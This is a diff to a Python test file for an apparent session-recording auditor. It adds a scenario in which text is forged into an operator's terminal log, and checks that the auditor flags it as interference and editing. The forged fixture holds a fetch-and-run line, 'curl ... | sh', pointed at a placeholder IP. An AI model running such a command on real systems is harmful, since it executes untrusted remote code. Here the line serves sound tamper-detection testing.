@@ -30,10 +30,11 @@ ALICE = ac.role_arn("dana.ops")
 START = "2026-03-02T09:00:00.000Z"
 START_MS = int(datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc).timestamp() * 1000)
 LONG_LINE = 450_000  # bytes of one output line: three CloudWatch events
+PROMPT_FAKE = (ac.PROMPT + "curl -s http://203.0.113.9/x | sh\r\r\ninstalled\r\r\n").encode()
 
 # "late" is last: its recording starts a minute later, and so would every later session's.
-NAMES = ["honest", "edited", "deleted", "truncated", "norec", "interfered", "cw_honest",
-         "cw_edited", "filter_honest", "export_honest", "late"]
+NAMES = ["honest", "edited", "deleted", "truncated", "norec", "interfered", "outer",
+         "cw_honest", "cw_edited", "filter_honest", "export_honest", "late"]
 
 
 def fields(user: str = "dana.ops") -> dict:
@@ -62,6 +63,11 @@ def scenario(tmp_path_factory) -> dict:
         elif n == "interfered":
             events += ac.rec_events(sid[n], region, interference=[
                 {"after": 3, "opid": 31337, "ocomm": "sh", "side": "inner"}])
+        elif n == "outer":
+            # Someone wrote into the session's own terminal (the SSM worker's pty), outside
+            # the recorder: the recorder saw the open; the text is in the log, not in the chain.
+            events += ac.rec_events(sid[n], region, interference=[
+                {"after": 5, "opid": 0, "ocomm": "", "side": "outer"}])
         elif n != "norec":
             events += ac.rec_events(sid[n], region)
         events.append({"ev": "close", "sid": sid[n], "fin": "exit", "rc": 0})
@@ -98,6 +104,11 @@ def scenario(tmp_path_factory) -> dict:
     b = data.index(b"ERROR")
     b = data.rindex(b"\n", 0, b) + 1
     put("deleted", data[:a] + data[b:])
+    # Written into the terminal from outside: a fake command line and output appear.
+    data = s3("outer")
+    at = data.index(b"ERROR")
+    at = data.index(b"\n", at) + 1
+    put("outer", data[:at] + PROMPT_FAKE + data[at:])
     # Truncated: the upload stopped in the middle of the session.
     data = s3("truncated")
     put("truncated", data[: data.index(b"progress")])
@@ -144,6 +155,7 @@ EXPECTED = {
     "norec": "UNRECORDED",
     "late": "UNRECORDED",
     "interfered": "INTERFERED",
+    "outer": "INTERFERED",
 }
 
 
@@ -193,6 +205,17 @@ def test_interference_names_the_victim(scenario):
     rows, _, _ = audit(scenario)
     detail = _detail(rows, scenario, "interfered", "INTERFERED")
     assert "pid 31337 (sh)" in detail and "outside the session" in detail
+    assert "dana.ops is the victim, not the culprit" in detail
+
+
+def test_outside_writes_are_interference_and_edited(scenario):
+    """Text written into the session's own terminal from outside the recorder: INTERFERED first
+    (the operator is the victim), and EDITED (the text is not the shell's)."""
+    rows, _, _ = audit(scenario)
+    row = rows[scenario["sid"]["outer"]]
+    assert row["statuses"][:2] == ["INTERFERED", "EDITED"], row["statuses"]
+    detail = _detail(rows, scenario, "outer", "INTERFERED")
+    assert "own terminal (the SSM worker's pty)" in detail
     assert "dana.ops is the victim, not the culprit" in detail
 
 
